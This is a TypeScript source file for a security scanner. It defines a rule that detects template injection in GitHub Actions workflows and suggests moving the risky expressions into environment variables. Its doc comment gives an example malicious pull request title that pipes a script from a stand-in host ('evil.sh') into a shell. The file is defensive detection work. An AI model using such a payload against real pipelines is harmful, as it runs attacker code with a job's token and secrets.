import type { FindingDraft } from '../../../core/finding.ts';
import { findExpressions, type ExpressionOccurrence } from '../expressions/find-expressions.ts';
import { injectionEnvFix } from '../injection-env-fix.ts';
import { draft, type PipelineRule } from '../pipeline-rule.ts';
import { viewRange, viewScalar } from '../scalar-view.ts';
import { codeSinkFields } from '../code-sink-inputs.ts';
import { localCallInjections } from '../local-call-taint.ts';
import { flowClassifiers } from '../output-taint.ts';
import { attackerSources, callerInputClassifier, envScopesOf, type EnvScopes, type TaintClassifier } from '../taint.ts';
import { stepGroups, type Job, type PipelineFile, type ScalarField, type Step } from '../workflow-model.ts';

/**
 * `${{ … }}` is pasted into a script before the script runs. When the text comes from a pull
 * request title, a branch name, an issue or a comment, whoever wrote it writes part of the
 * script: a title like `"; curl evil.sh | sh; "` runs commands in the job, with its token and
 * secrets. This is how the Ultralytics release was poisoned in December 2024. Passing the value
 * through an environment variable keeps it data.
 */
export const templateInjection: PipelineRule = {
  id: 'template-injection',
  title: 'Attacker-controlled expression in a script',
  severity: 'high',
  confidence: 'high',
  tags: ['CWE-94', 'injection'],
  equivalents: ['template-injection', 'injection'],
  description: 'A `${{ … }}` expression whose value an outsider controls (pull request, issue or comment text, branch names, commit messages), directly or through `env:`, shell variables, step outputs written to `$GITHUB_OUTPUT`, matrix values and job outputs (and, in pull request workflows, the file lists of changed-files actions, since the author names the files), inside `run:`, an `actions/github-script` `script:` or another action input that runs as code. Free-text inputs of composite actions and reusable workflows are reported at medium severity: the caller decides what they hold. In directory scans, a caller that passes attacker text to a local reusable workflow or action (`uses: ./…`) whose input reaches a script there is reported at high severity at its `with:` value.',
  remediation: 'Move the expression into `env:` (for example `TITLE: ${{ github.event.pull_request.title }}`) and use it as a quoted shell variable (`"$TITLE"`) or `process.env.TITLE` in scripts.',
  check(file, context) {
    const attacker = flowClassifiers(file);
    const callerBase = callerInputClassifier(file);
    const caller = callerBase && flowClassifiers(file, callerBase);
    const inFile = stepGroups(file).flatMap(({ job, steps }) => {
      const taint = { attacker: attacker(job), caller: caller?.(job) };
      return steps.flatMap((step) => withStepFix(file, job, step, codeSinkFields(step).flatMap((field) => injectionsIn(file, field, envScopesOf(file, job, step), taint))));
    });
    return [...inFile, ...localCallInjections(file, context.related)];
  },
};

interface Classifiers {
  attacker: TaintClassifier;
  caller: TaintClassifier | undefined;
}

interface Injection {
  draft: FindingDraft;
  field: ScalarField;
  occurrence: ExpressionOccurrence;
}

/** Every finding in a step's `run:` carries the one fix that moves all of them into `env:`. */
function withStepFix(file: PipelineFile, job: Job | undefined, step: Step, injections: readonly Injection[]): FindingDraft[] {
  const inRun = injections.filter((injection) => injection.field === step.run);
  const fix = inRun.length > 0 ? injectionEnvFix(file, job, step, inRun.map((injection) => injection.occurrence)) : undefined;
  return injections.map((injection) => (fix && injection.field === step.run ? { ...injection.draft, fix } : injection.draft));
}

function injectionsIn(file: PipelineFile, field: ScalarField, scopes: EnvScopes, taint: Classifiers): Injection[] {
  const view = viewScalar(file.source, field);
  return findExpressions(view.text).flatMap((occurrence): Injection[] => {
    const expression = view.text.slice(occurrence.start, occurrence.end);
    const range = viewRange(file.source, view, occurrence.start, occurrence.end);
    const [source] = attackerSources(occurrence.body, scopes, taint.attacker);
    if (source) {
      const message = `${expression} is pasted into the script before it runs and carries ${source}: whoever writes that text can run commands in this job with its token and secrets.`;
      return [{ draft: draft('template-injection', range, message, expression), field, occurrence }];
    }
    const [input] = taint.caller ? attackerSources(occurrence.body, scopes, taint.caller) : [];
    if (!input) return [];
    const message = `${expression} pastes ${input}, free text chosen by each caller, into the script: a caller forwarding a pull request title or branch name lets its author run commands here.`;
    return [{ draft: { ...draft('template-injection', range, message, expression), severity: 'medium' as const, confidence: 'medium' as const }, field, occurrence }];
  });
}
